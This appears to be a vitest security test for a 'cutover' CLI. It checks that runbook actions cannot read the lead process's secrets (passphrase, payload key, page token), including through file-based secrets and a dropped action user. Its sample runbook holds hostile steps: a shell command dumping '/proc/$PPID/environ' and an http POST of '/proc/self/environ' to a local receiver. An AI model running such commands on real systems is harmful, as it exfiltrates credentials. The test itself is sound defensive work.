/**
 * `rehearse` hosts its worker in the lead's own process: nothing of the lead's secrets (signing-key passphrase, payload
 * key, database URL, page token) may be within a runbook action's reach. A shell step reads `/proc/$PPID/environ` (the
 * lead's process) and its own environment into a file; an http step posts `${file:/proc/self/environ}` to a receiver
 * this test starts. Nothing secret arrives: given in the environment, given as `_FILE`s, and (as root) with the
 * commands run as CUTOVER_ACTION_USER.
 */
import { randomBytes } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ensureActionUser, ACTION_USER } from './support/action-user.js';
import { cliEnv, killStartedCli, runCli, startCli } from './support/cli.js';

afterEach(killStartedCli);

const received: string[] = [];
let server: http.Server;
let receiver = '';
beforeAll(async () => {
  server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString('latin1')));
    req.on('end', () => {
      received.push(`${req.url ?? ''} ${JSON.stringify(req.headers)} ${body}`);
      res.writeHead(200).end('ok');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  receiver = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((r) => server.close(() => r())));

const SECRETS = {
  CUTOVER_KEY_PASSPHRASE: `lead-passphrase-${randomBytes(6).toString('hex')}`,
  CUTOVER_PAYLOAD_KEY: randomBytes(32).toString('base64'),
  CUTOVER_WEB_TOKEN: `page-token-${randomBytes(8).toString('hex')}`,
};

/** A runbook folder (readable and writable by the action user) whose two steps try to take the lead's secrets. */
function runbookFolder(): { dir: string; file: string } {
  const dir = mkdtempSync(path.join(tmpdir(), 'cutover-leak-'));
  chmodSync(dir, 0o777);
  mkdirSync(path.join(dir, 'leaked'), { mode: 0o777 });
  chmodSync(path.join(dir, 'leaked'), 0o777);
  const file = path.join(dir, 'runbook.yaml');
  writeFileSync(
    file,
    `name: leak
version: "1"
lead: lead
roles: { lead: [alice] }
backout: { policy: automatic }
phases:
  - id: p
    kind: migration
    steps:
      - id: parent-environ
        title: Read the worker's environment
        owner: lead
        action: { kind: shell, command: "cat /proc/$PPID/environ > leaked/parent 2>&1; env > leaked/own; true" }
      - id: post-environ
        title: Send the worker's environment away
        owner: lead
        depends_on: [parent-environ]
        action: { kind: http, method: POST, url: "${receiver}/environ", body: "\${file:/proc/self/environ}" }
`,
  );
  return { dir, file };
}

/** What the steps could take: the two files they wrote and what the receiver got. */
function taken(dir: string): string {
  const read = (name: string) => {
    try {
      return readFileSync(path.join(dir, 'leaked', name), 'latin1');
    } catch {
      return '';
    }
  };
  return [read('parent'), read('own'), ...received].join('\n');
}

function expectNothingSecret(text: string, secrets: Record<string, string>) {
  for (const [name, value] of Object.entries(secrets)) expect(text, name).not.toContain(value);
}

describe('rehearse keeps the lead’s secrets out of the actions’ reach', () => {
  it('with the secrets in the environment, the worker process shows none of them', async () => {
    const { dir, file } = runbookFolder();
    const env = cliEnv(SECRETS);
    const result = runCli(['rehearse', file, '--as', 'alice'], env, dir);
    // The http step is refused (a reference outside the runbook's folder), so the rehearsal backs out.
    expect(result.code, result.stdout + result.stderr).toBe(4);
    expect(result.stdout + result.stderr).toMatch(/\$\{file:\/proc\/self\/environ\} is outside the folders a runbook may read/);
    const text = taken(dir);
    // The step really read the parent's environment (the worker's other variables are there), just not the secrets.
    expect(readFileSync(path.join(dir, 'leaked', 'parent'), 'latin1')).toContain(`CUTOVER_HOME=${env.CUTOVER_HOME}`);
    expectNothingSecret(text, SECRETS);
    expect(text).not.toMatch(/CUTOVER_(KEY_PASSPHRASE|PAYLOAD_KEY|WEB_TOKEN)=/);
    expect(received).toEqual([]);
  });

  it('with the secrets in _FILEs, they work and are nowhere an action looks', async () => {
    const { dir, file } = runbookFolder();
    const secretDir = mkdtempSync(path.join(tmpdir(), 'cutover-own-'));
    const files = Object.fromEntries(
      Object.entries(SECRETS).map(([name, value]) => {
        const where = path.join(secretDir, name.toLowerCase());
        writeFileSync(where, `${value}\n`, { mode: 0o600 });
        return [`${name}_FILE`, where];
      }),
    );
    const env = cliEnv(files);
    const result = runCli(['rehearse', file, '--as', 'alice'], env, dir);
    expect(result.code, result.stdout + result.stderr).toBe(4);
    expectNothingSecret(taken(dir), SECRETS);
    // The payload key was read from its file: the run's history is encrypted with it, and `status` reads it back.
    const status = runCli(['status', 'leak-1'], env, dir);
    expect(status.code, status.stderr).toBe(0);
    const wrongKey = runCli(['status', 'leak-1'], { ...env, CUTOVER_PAYLOAD_KEY_FILE: path.join(dir, 'runbook.yaml') }, dir);
    expect(wrongKey.stderr).toMatch(/CUTOVER_PAYLOAD_KEY must be 32 bytes/);
    expect(wrongKey.code).toBe(6);
  });

  it('refuses a _FILE it cannot read, or both forms, in one sentence', () => {
    const env = cliEnv({ CUTOVER_KEY_PASSPHRASE_FILE: '/nonexistent/passphrase' });
    const missing = runCli(['list'], env);
    expect(missing.stderr).toBe(
      'cutover: CUTOVER_KEY_PASSPHRASE_FILE names /nonexistent/passphrase, which cannot be read (ENOENT): fix the path or its permissions\n',
    );
    expect(missing.code).toBe(6);
    const both = runCli(['list'], { ...env, CUTOVER_KEY_PASSPHRASE: 'x' });
    expect(both.stderr).toMatch(/^cutover: CUTOVER_KEY_PASSPHRASE and CUTOVER_KEY_PASSPHRASE_FILE are both set: keep one/);
    expect(both.code).toBe(6);
  });

  it('with CUTOVER_ACTION_USER (as root), the command cannot read the worker process at all', async () => {
    if (process.getuid?.() !== 0) {
      // Switching users needs root: a worker that is not root refuses the setting (asserted in secrets-action-env).
      return;
    }
    ensureActionUser();
    const { dir, file } = runbookFolder();
    const env = cliEnv({ ...SECRETS, CUTOVER_ACTION_USER: ACTION_USER });
    const rehearsal = startCli(['rehearse', file, '--as', 'alice'], env, dir);
    const code = await rehearsal.exited;
    expect(code, rehearsal.output()).toBe(4);
    expect(readFileSync(path.join(dir, 'leaked', 'parent'), 'latin1')).toMatch(/Permission denied/);
    expect(readFileSync(path.join(dir, 'leaked', 'own'), 'latin1')).toContain(`USER=${ACTION_USER}`);
    expectNothingSecret(taken(dir), SECRETS);
  });
});
